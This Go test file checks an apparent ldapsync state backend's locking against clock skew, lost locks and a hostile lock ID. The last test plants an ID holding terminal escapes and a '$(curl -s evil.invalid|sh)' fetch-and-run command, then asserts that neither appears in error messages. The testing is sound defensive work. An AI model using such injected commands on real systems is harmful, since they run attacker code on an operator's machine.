package ftrackstate

import (
	"context"
	"encoding/json"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/ldapsync/ldapsync/state"
)

// ATTACK: a runner whose clock is ahead by more than the lock expiry (one
// hour) sees a live, freshly renewed lock as expired. It must not take it
// over: it has not watched the lock stay unrenewed for half the expiry by
// its own clock.
func TestAttackSkewedClockCannotTakeLiveLock(t *testing.T) {
	s := newServer(t)
	ctx := context.Background()
	a := newBackend(t, s, WithLockExpiry(400*time.Millisecond)) // renews every 100 ms
	skewed := newBackend(t, s, WithLockExpiry(400*time.Millisecond))
	skewed.now = func() time.Time { return time.Now().Add(61 * time.Minute) } // NTP-less runner, 61 min fast
	unlockA, err := a.Lock(ctx, lockInfo("lock-a"), time.Second)
	if err != nil {
		t.Fatal(err)
	}
	_, err = skewed.Lock(ctx, lockInfo("lock-b"), time.Second)
	var le *state.LockedError
	if !errors.As(err, &le) || le.Holder == nil || le.Holder.ID != "lock-a" {
		t.Fatalf("the skewed runner took a live lock (or failed otherwise): %v", err)
	}
	if err := unlockA(); err != nil {
		t.Fatalf("A's lock was disturbed: %v", err)
	}
}

// ATTACK: a run whose lock was force-unlocked (or taken over) while it ran
// must not write again: its Save is refused, and the state the new holder
// wrote stays.
func TestAttackRunThatLostItsLockCannotSave(t *testing.T) {
	s := newServer(t)
	ctx := context.Background()
	a, b := newBackend(t, s), newBackend(t, s)
	unlockA, err := a.Lock(ctx, lockInfo("lock-a"), time.Second)
	if err != nil {
		t.Fatal(err)
	}
	laA, err := a.Load()
	if err != nil {
		t.Fatal(err)
	}
	if err := b.ForceUnlock(ctx, "lock-a"); err != nil {
		t.Fatal(err)
	}
	unlockB, err := b.Lock(ctx, lockInfo("lock-b"), time.Second)
	if err != nil {
		t.Fatal(err)
	}
	laB, err := b.Load()
	if err != nil {
		t.Fatal(err)
	}
	laB.Serial, laB.ManagedGroups = 1, []string{"written-by-B"}
	if err := b.Save(laB); err != nil {
		t.Fatal(err)
	}
	laA.Serial, laA.ManagedGroups = 1, []string{"written-by-A"}
	err = a.Save(laA)
	if err == nil || !strings.Contains(err.Error(), "lock") {
		t.Fatalf("the run that lost its lock saved: %v", err)
	}
	got, err := newBackend(t, s).Load()
	if err != nil {
		t.Fatal(err)
	}
	if got.Lineage != laB.Lineage || len(got.ManagedGroups) != 1 || got.ManagedGroups[0] != "written-by-B" {
		t.Fatalf("the holder's state was overwritten: lineage %s groups %v", got.Lineage, got.ManagedGroups)
	}
	if err := unlockA(); err == nil {
		t.Fatal("unlocking a lost lock reported success")
	}
	if err := unlockB(); err != nil {
		t.Fatal(err)
	}
}

// ATTACK: the holder id of ldapsync.lock comes from ftrack Metadata
// (hostile). The http backend prints it in the force-unlock remedy only
// when it is a plain id (httpstate isPlainID); ftrack's lockedError pastes
// it in raw: terminal escapes and a shell command reach the operator, who
// is told to run "ldapsync state force-unlock <id>".
func TestAttackHostileLockIDInRemedy(t *testing.T) {
	s := newServer(t)
	hostile := "x\x1b]0;pwned\x07\x1b[2J\n$(curl -s evil.invalid|sh)"
	v := `{"ID":` + strconvQuote(hostile) + `,"Operation":"apply","Who":"ci","Expires":"2099-01-01T00:00:00Z"}`
	if err := s.Emulator.Put("Metadata", map[string]any{"parent_id": apiID(), "parent_type": "User", "key": KeyLock, "value": v}); err != nil {
		t.Fatal(err)
	}
	_, err := newBackend(t, s).Lock(context.Background(), lockInfo("lock-b"), 30*time.Millisecond)
	if err == nil {
		t.Fatal("locked")
	}
	msg := err.Error()
	t.Logf("error: %q", msg)
	for _, bad := range []string{"\x1b", "\x07", "\n", "$(curl"} {
		if strings.Contains(msg, bad) {
			t.Errorf("BUG: the lock error carries %q from ftrack into the message", bad)
		}
	}
}

func strconvQuote(s string) string { b, _ := json.Marshal(s); return string(b) }
